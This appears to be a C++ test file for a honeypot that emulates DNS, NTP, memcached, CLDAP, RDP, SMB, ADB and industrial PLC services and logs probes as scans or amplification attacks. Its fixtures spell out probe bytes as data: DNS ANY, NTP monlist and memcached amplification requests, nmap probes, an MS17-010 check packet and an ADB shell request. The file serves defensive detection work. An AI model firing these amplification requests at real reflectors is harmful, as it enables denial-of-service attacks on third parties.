  std::vector<uint32_t> arcs;
  ASSERT_TRUE(amp::ber::to_oid(amp::ber::oid_body({1, 3, 6, 1, 4, 1, 8072, 4294967295u}), arcs));
  EXPECT_EQ(amp::ber::oid_text(arcs), "1.3.6.1.4.1.8072.4294967295");
  int64_t v = 0;
  ASSERT_TRUE(amp::ber::to_int(amp::ber::int_body(-129), v));
  EXPECT_EQ(v, -129);
  EXPECT_FALSE(amp::respond_snmp(bulk.substr(0, bulk.size() - 3), local, reply, summary));
  std::string v3 = amp::ber::tlv(0x30, amp::ber::tlv(0x02, amp::ber::int_body(3)));
  ASSERT_TRUE(amp::respond_snmp(v3, local, reply, summary));
  EXPECT_TRUE(reply.empty());
  // The rootDSE query scanners send.
  std::string cldap = hex_bytes(
      "3025 020101 6320 0400 0a0100 0a0100 020100 020100 010100 870b6f626a656374636c617373 3000");
  ASSERT_TRUE(amp::respond_cldap(cldap, local, reply, summary));
  EXPECT_EQ(summary, "searchRequest rootDSE");
  EXPECT_GT(reply.size(), 1000u);
  EXPECT_NE(reply.find("defaultNamingContext"), std::string::npos);
  EXPECT_FALSE(amp::respond_cldap(cldap.substr(0, 20), local, reply, summary));
}

TEST_F(HoneypotFixture, AmplifierAnswersWithinBudgetAndReportsTheAttackWhenIdle) {
  tweak_ = [](HoneypotSettings& s) {
    s.scan.amp.replies_per_minute = 2;
    s.scan.amp.attack_min_requests = 10;
    s.scan.amp.attack_idle = 500ms;
  };
  start({"dns", "ntp"});
  run();
  int fd = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  timeval tv{0, 300000};
  ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  std::string any = hex_bytes("abcd 0100 0001 0000 0000 0000 03697363036f726700 00ff 0001");
  std::string monlist = hex_bytes("17 00 03 2a") + std::string(4, '\0');
  auto send_n = [&](uint16_t port, const std::string& q, int n) {
    to.sin_port = htons(port);
    for (int i = 0; i < n; ++i)
      ::sendto(fd, q.data(), q.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof to);
    int replies = 0;
    char buf[2048];
    while (::recv(fd, buf, sizeof buf, 0) > 0) ++replies;
    return replies;
  };
  EXPECT_EQ(send_n(ports_["dns"], any, 30), 2);     // the budget, not 30
  EXPECT_EQ(send_n(ports_["ntp"], monlist, 3), 2);  // 3 requests: a scan, not an attack
  EXPECT_EQ(send_n(ports_["ntp"], "garbage", 1), 0);
  ::close(fd);
  std::this_thread::sleep_for(1200ms);  // idle: the attack ends
  auto evs = events();
  ASSERT_EQ(evs.size(), 1u);
  const auto& f = evs[0].fields;
  EXPECT_EQ(evs[0].type, "event4_honeypot_ddos_amp");
  EXPECT_EQ(f.at("src_ip"), "127.0.0.1");
  EXPECT_EQ(f.at("dst_port"), std::to_string(ports_["dns"]));
  EXPECT_EQ(f.at("protocol"), "udp");
  EXPECT_EQ(f.at("request"), "ANY isc.org");
  EXPECT_EQ(f.at("count"), "30");
  EXPECT_EQ(f.at("bytes"), std::to_string(30 * any.size()));
  EXPECT_TRUE(f.count("end_time") && f.count("duration") && f.count("avg_pps") &&
              f.count("max_pps"));
  auto status = (*hp_)->host().status();
  EXPECT_EQ(status["services"]["dns"]["suppressed"], 28);
  EXPECT_EQ(status["services"]["ntp"]["scans"], 1);
  EXPECT_EQ(status["services"]["ntp"]["not_requests"], 1);
}

TEST_F(HoneypotFixture, AmplificationAttackInProgressIsReportedAtShutdown) {
  tweak_ = [](HoneypotSettings& s) {
    s.scan.amp.attack_min_requests = 5;
    s.scan.amp.attack_idle = std::chrono::hours(1);
  };
  start({"memcached"});
  run();
  int fd = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  to.sin_port = htons(ports_["memcached"]);
  std::string stats = std::string("\0\1\0\0\0\1\0\0stats\r\n", 15);
  for (int i = 0; i < 12; ++i)
    ::sendto(fd, stats.data(), stats.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof to);
  ::close(fd);
  std::this_thread::sleep_for(300ms);
  EXPECT_EQ((*hp_)->host().status()["services"]["memcached"]["tracked"], 1);
  (*hp_)->stop();  // an hour before the attack would end by itself
  auto evs = events();
  ASSERT_EQ(evs.size(), 1u);
  EXPECT_EQ(evs[0].type, "event4_honeypot_ddos_amp");
  EXPECT_EQ(evs[0].fields.at("count"), "12");
  EXPECT_EQ(evs[0].fields.at("request"), "stats");
}

// ---------------------------------------------------------------------------------------
// RDP, SMB, ADB, Modbus, S7: readers and writers

TEST(RdpProtocol, ReadsTheConnectionRequestAndConfirmsAsWindowsWithNla) {
  // What nmap's rdp scripts send: cookie mstshash=nmap, TLS|CredSSP requested.
  std::string cr = hex_bytes("0300002a 25e0 0000 0000 00") + "Cookie: mstshash=nmap\r\n" +
                   hex_bytes("0100 0800 03000000");
  rdp::ConnectionRequest req;
  ASSERT_EQ(rdp::parse_connection_request(cr, req), rdp::Parse::kComplete);
  EXPECT_EQ(req.cookie, "mstshash=nmap");
  EXPECT_TRUE(req.negotiation);
  EXPECT_EQ(req.requested, 3u);
  EXPECT_EQ(rdp::protocol_names(req.requested), "rdp|ssl|hybrid");
  uint32_t selected = 0;
  std::string cc = rdp::connection_confirm(req, selected);
  EXPECT_EQ(selected, rdp::kProtocolHybrid);
  EXPECT_EQ(hex_bytes("0300 0013 0ed0 0000 1234 00 021f0800 02000000"), cc);
  // nmap -sV's probe: no cookie, no negotiation.
  std::string plain = hex_bytes("0300000b06e00000000000");
  ASSERT_EQ(rdp::parse_connection_request(plain, req), rdp::Parse::kComplete);
  EXPECT_FALSE(req.negotiation);
  EXPECT_EQ(rdp::connection_confirm(req, selected).size(), 11u);
  EXPECT_EQ(rdp::parse_connection_request(cr.substr(0, 20), req), rdp::Parse::kIncomplete);
  EXPECT_EQ(rdp::parse_connection_request("GET / HTTP/1.1\r\n", req), rdp::Parse::kMalformed);
  EXPECT_EQ(rdp::parse_connection_request(hex_bytes("0300000b06f00000000000"), req),
            rdp::Parse::kMalformed);
}

TEST(SmbProtocol, NegotiatesSmb1AndSmb2AndSpotsTheMs17010Check) {
  // SMB1 NEGOTIATE offering NT LM 0.12 and SMB 2.???.
  std::string smb1 =
      std::string("\xffSMB\x72", 5) + std::string(4, '\0') + "\x18\x01\x28" + std::string(20, '\0');
  std::string dialects = std::string("\x02NT LM 0.12\0\x02SMB 2.002\0\x02SMB 2.???\0", 34);
  smb1 +=
      std::string(1, '\0') + std::string(1, static_cast<char>(dialects.size())) + '\0' + dialects;
  std::string frame = std::string("\0\0\0", 3) + static_cast<char>(smb1.size()) + smb1;
  uint8_t type = 0;
  std::string_view payload;
  size_t used = 0;
  ASSERT_EQ(smb::parse_frame(frame, type, payload, used), smb::Parse::kComplete);
  EXPECT_EQ(used, frame.size());
  smb::Message m;
  ASSERT_EQ(smb::parse_message(payload, m), smb::Parse::kComplete);
  EXPECT_EQ(m.version, 1);
  ASSERT_EQ(m.dialects.size(), 3u);
  EXPECT_EQ(m.dialects[2], "SMB 2.???");
  EXPECT_EQ(m.flags & 0xff, 0x18u);
  std::string up = smb::smb2_negotiate_response(m, 0x02ff);
  EXPECT_EQ(up.substr(4, 4), "\xfeSMB");
  EXPECT_EQ(up.substr(4 + 64 + 4, 2), std::string("\xff\x02", 2));  // dialect 2.???
  // SMB2 NEGOTIATE with 2.0.2 .. 3.1.1.
  std::string smb2 = std::string("\xfeSMB\x40\0", 6) + std::string(58, '\0');
  smb2 += std::string("\x24\x00\x05\x00", 4) + std::string(32, '\0');
  smb2 += hex_bytes("0202 1002 0003 0203 1103");
  ASSERT_EQ(smb::parse_message(smb2, m), smb::Parse::kComplete);
  EXPECT_EQ(m.version, 2);
  ASSERT_EQ(m.dialects.size(), 5u);
  EXPECT_EQ(m.dialects[4], "3.1.1");
  std::string r311 = smb::smb2_negotiate_response(m, 0x0311);
  EXPECT_EQ(r311.substr(4 + 64 + 4, 2), std::string("\x11\x03", 2));
  EXPECT_EQ(static_cast<unsigned char>(r311[4 + 64 + 6]), 2);  // two negotiate contexts
  // Trans PeekNamedPipe on FID 0 (the MS17-010 check).
  std::string trans = std::string("\xffSMB\x25", 5) + std::string(27, '\0');
  std::string words(32, '\0');
  words[26] = 2;     // setup count
  words[28] = 0x23;  // PeekNamedPipe
  trans += std::string(1, 16) + words + std::string(2, '\0');
  ASSERT_EQ(smb::parse_message(trans, m), smb::Parse::kComplete);
  EXPECT_TRUE(m.has_setup);
  EXPECT_EQ(m.setup0, 0x23);
  EXPECT_EQ(m.setup1, 0);
  EXPECT_EQ(smb::parse_message("\xffSMB", m), smb::Parse::kMalformed);
  EXPECT_EQ(smb::parse_frame(std::string("\x42\0\0\x01x", 5), type, payload, used),
            smb::Parse::kMalformed);
}

TEST(AdbProtocol, ReadsAndWritesMessages) {
  std::string cnxn = adb::message(adb::kCnxn, 0x01000001, 1 << 20, "host::features=shell_v2\0");
  adb::Message m;
  ASSERT_EQ(adb::parse_message(cnxn + "trailing", m), adb::Parse::kComplete);
  EXPECT_EQ(m.command, adb::kCnxn);
  EXPECT_EQ(m.arg1, 1u << 20);
  EXPECT_EQ(m.length, cnxn.size());
  EXPECT_EQ(adb::command_name(m.command), "CNXN");
  EXPECT_EQ(adb::parse_message(cnxn.substr(0, 30), m), adb::Parse::kIncomplete);
  std::string bad = cnxn;
  bad[20] ^= 1;  // magic no longer command ^ 0xffffffff
  EXPECT_EQ(adb::parse_message(bad, m), adb::Parse::kMalformed);
}

TEST(IcsProtocols, ModbusAndS7AnswerAsPlcs) {
  // The parsed requests are views into these: they must outlive them.
  const std::string read_regs = hex_bytes("0001 0000 0006 01 03 0000 000a");
  const std::string device_id = hex_bytes("0002 0000 0005 01 2b 0e 01 00");
  const std::string unknown = hex_bytes("0003 0000 0002 01 63");
  ics::ModbusRequest r;
  // Read holding registers 0..9 from unit 1.
  ASSERT_EQ(ics::parse_modbus(read_regs, r), ics::Parse::kComplete);
  EXPECT_EQ(r.function, 3);
  std::string resp = ics::modbus_response(r);
  EXPECT_EQ(resp.size(), 9u + 20);
  EXPECT_EQ(resp.substr(0, 9), hex_bytes("0001 0000 0017 01 03 14"));
  ASSERT_EQ(ics::parse_modbus(device_id, r), ics::Parse::kComplete);
  EXPECT_NE(ics::modbus_response(r).find("Schneider Electric"), std::string::npos);
  ASSERT_EQ(ics::parse_modbus(unknown, r), ics::Parse::kComplete);
  EXPECT_EQ(ics::modbus_response(r), hex_bytes("0003 0000 0003 01 e3 01"));  // illegal function
  EXPECT_EQ(ics::parse_modbus(hex_bytes("0003 0001 0002 01 03"), r), ics::Parse::kMalformed);
  // S7: nmap s7-info's packets.
  const std::string cotp = hex_bytes("0300001611e00000001400c1020100c2020102c0010a");
  const std::string szl =
      hex_bytes("0300002102f080320700000000000800080001120411440100ff09000400110001");
  const std::string setup = hex_bytes("0300001902f08032010000000000080000f0000001000101e0");
  ics::S7Packet p;
  ASSERT_EQ(ics::parse_s7(cotp, p), ics::Parse::kComplete);
  EXPECT_EQ(p.cotp, 0xe0);
  EXPECT_EQ(ics::s7_function_name(p), "cotp-connect");
  EXPECT_EQ(static_cast<unsigned char>(ics::s7_response(p)[5]), 0xd0);
  ASSERT_EQ(ics::parse_s7(szl, p), ics::Parse::kComplete);
  EXPECT_EQ(ics::s7_function_name(p), "read-szl 0x0011");
  std::string answer = ics::s7_response(p);
  EXPECT_EQ(answer.substr(43, 19), "6ES7 315-2EH14-0AB0");  // where s7-info reads the module
  ASSERT_EQ(ics::parse_s7(setup, p), ics::Parse::kComplete);
  EXPECT_EQ(ics::s7_function_name(p), "setup-communication");
  EXPECT_EQ(ics::parse_s7(hex_bytes("0300000702f080"), p), ics::Parse::kMalformed);
  EXPECT_EQ(ics::hex_bounded("\x01\xab", 1), "01...");
}

TEST_F(HoneypotFixture, TcpScanServicesLogEveryConnection) {
  start({"rdp", "smb", "adb", "modbus", "s7"});
  run();
  auto talk = [&](const char* service, const std::string& bytes) {
    int fd = connect_to(service);
    std::string got = exchange(fd, bytes, 1);
    std::this_thread::sleep_for(50ms);
    ::close(fd);
    return got;
  };
  std::string cr = hex_bytes("0300002a 25e0 0000 0000 00") + "Cookie: mstshash=hello\r\n" +
                   hex_bytes("0100 0800 03000000");
  cr[3] = static_cast<char>(cr.size());
  cr[4] = static_cast<char>(cr.size() - 5);
  EXPECT_EQ(static_cast<unsigned char>(talk("rdp", cr)[5]), 0xd0);
  EXPECT_EQ(talk("rdp", "not rdp at all\r\n"), "");
  EXPECT_EQ(talk("modbus", hex_bytes("0001 0000 0006 07 03 0000 0002")).size(), 13u);
  EXPECT_FALSE(talk("s7", hex_bytes("0300001611e00000001400c1020100c2020102c0010a")).empty());
  std::string cnxn = adb::message(adb::kCnxn, 0x01000001, 4096, "host::\0");
  std::string open = adb::message(adb::kOpen, 1, 0, "shell:id\0");
  {
    int fd = connect_to("adb");
    exchange(fd, cnxn, 24);
    std::string got = exchange(fd, open, 48);  // OKAY then CLSE
    EXPECT_EQ(got.size(), 48u);
    ::close(fd);
  }
  std::string neg = std::string("\xfeSMB\x40\0", 6) + std::string(58, '\0') +
                    std::string("\x24\x00\x01\x00", 4) + std::string(32, '\0') + hex_bytes("1103");
  std::string frame = std::string("\0\0\0", 3) + static_cast<char>(neg.size()) + neg;
  EXPECT_EQ(talk("smb", frame).substr(4, 4), "\xfeSMB");
  std::this_thread::sleep_for(200ms);
  auto evs = events();
  std::map<std::string, std::vector<std::map<std::string, std::string>>> by_type;
  for (const auto& e : evs) by_type[e.type].push_back(e.fields);
  ASSERT_EQ(by_type["event4_honeypot_rdp_scan"].size(), 2u);
  int cookies = 0;
  for (const auto& f : by_type["event4_honeypot_rdp_scan"]) {
    if (f.count("cookie")) {
      ++cookies;
      EXPECT_EQ(f.at("cookie"), "mstshash=hello");
      EXPECT_EQ(f.at("session_tags"), "requested=rdp|ssl|hybrid;selected=rdp|hybrid");
    } else {
      EXPECT_EQ(f.at("tag"), "rdp-not-x224");
    }
  }
  EXPECT_EQ(cookies, 1);
  ASSERT_EQ(by_type["event4_honeypot_smb_scan"].size(), 1u);
  EXPECT_EQ(by_type["event4_honeypot_smb_scan"][0].at("command"), "negotiate");
  EXPECT_EQ(by_type["event4_honeypot_smb_scan"][0].at("supported_protocols"), "3.1.1");
  ASSERT_EQ(by_type["event4_honeypot_adb_scan"].size(), 1u);
  EXPECT_EQ(by_type["event4_honeypot_adb_scan"][0].at("commands"), "shell:id");
  EXPECT_EQ(by_type["event4_honeypot_adb_scan"][0].at("maxdata"), "4096");
  ASSERT_EQ(by_type["event4_honeypot_ics_scan"].size(), 2u);
  for (const auto& f : by_type["event4_honeypot_ics_scan"]) {
    if (f.at("application") == "modbus") {
      EXPECT_EQ(f.at("slave_id"), "7");
      EXPECT_EQ(f.at("function_code"), "3");
    } else {
      EXPECT_EQ(f.at("function_code"), "cotp-connect");
    }
  }
}

// ---------------------------------------------------------------------------------------
// Darknet: packets and counters (the packet socket itself: tests/honeypot/darknet_test.py)

TEST(Darknet, ReadsSynsAndDatagramsAndCountsPerSourceAndPort) {
  // IPv4 TCP SYN 198.51.100.9:40000 -> 192.0.2.10:23; the same with ACK; UDP to 5060.
  std::string syn = hex_bytes(
      "4500002c 0001 0000 4006 0000 c6336409 c000020a"
      "9c40 0017 00000000 00000000 5002 ffff 0000 0000");
  std::string ack = syn;
  ack[20 + 13] = 0x12;
  std::string udp = hex_bytes(
      "45000020 0001 0000 4011 0000 c6336409 c000020a"
      "9c41 13c4 000c 0000 61626364");
  std::string frag = syn;
  frag[7] = 0x10;  // fragment offset: no ports in it
  std::string syn6 = hex_bytes(
      "60000000 0014 0640 20010db8000000000000000000000009"
      "20010db800000000000000000000000a"
      "9c40 01bb 00000000 00000000 5002 ffff 0000 0000");
  darknet::Packet p;
  ASSERT_TRUE(darknet::parse_packet(syn, p));
  EXPECT_EQ(p.protocol, 6);
  EXPECT_EQ(p.src.to_string(), "198.51.100.9:40000");
  EXPECT_EQ(p.dst.to_string(), "192.0.2.10:23");
  EXPECT_FALSE(darknet::parse_packet(ack, p));
  EXPECT_FALSE(darknet::parse_packet(frag, p));
  EXPECT_FALSE(darknet::parse_packet(syn.substr(0, 30), p));
  ASSERT_TRUE(darknet::parse_packet(syn6, p));
  EXPECT_EQ(p.dst.to_string(), "[2001:db8::a]:443");
  ASSERT_TRUE(darknet::parse_packet(udp, p));
  EXPECT_EQ(p.dst.port, 5060);

  darknet::Counter::Served served;
  served.tcp.insert(80);
  darknet::Counter c(*IpAddress::parse("192.0.2.10"), served, 32768, 60999, 3);
  auto pkt = [](const char* src, uint16_t dport, uint8_t proto, const char* dst = "192.0.2.10") {
    darknet::Packet k;
    k.protocol = proto;
    k.src = {*IpAddress::parse(src), 40000};
    k.dst = {*IpAddress::parse(dst), dport};
    return k;
  };
  for (int i = 0; i < 5; ++i) c.add(pkt("198.51.100.9", 23, 6), 1000 + i);
  for (int i = 0; i < 2; ++i) c.add(pkt("198.51.100.9", 5060, 17), 1000);
  c.add(pkt("198.51.100.9", 80, 6), 1000);                // served by a service
  c.add(pkt("198.51.100.9", 45000, 17), 1000);            // ephemeral UDP
  c.add(pkt("198.51.100.9", 23, 6, "192.0.2.99"), 1000);  // another address
  c.add(pkt("203.0.113.5", 23, 6), 1000);
  c.add(pkt("203.0.113.6", 23, 6), 1000);  // a fourth counter: over the bound of 3
  EXPECT_EQ(c.stats().counted, 8);
  EXPECT_EQ(c.stats().served, 1);
  EXPECT_EQ(c.stats().ephemeral, 1);
  EXPECT_EQ(c.stats().other_address, 1);
  EXPECT_EQ(c.stats().untracked, 1);
  std::string out;
  HoneypotSettings hs;
  EXPECT_EQ(c.flush(out, hs), 3);
  EXPECT_NE(
      out.find(R"("src_ip":"198.51.100.9","src_port":40000,"dst_ip":"192.0.2.10","dst_port":23)"),
      std::string::npos)
      << out;
  EXPECT_NE(out.find(R"("tag":"tcp-syn","count":5)"), std::string::npos) << out;
  EXPECT_NE(out.find(R"("tag":"udp","count":2)"), std::string::npos) << out;
  EXPECT_EQ(c.tracked(), 0u);  // a new interval
}

}  // namespace
}  // namespace vantage::honeypot
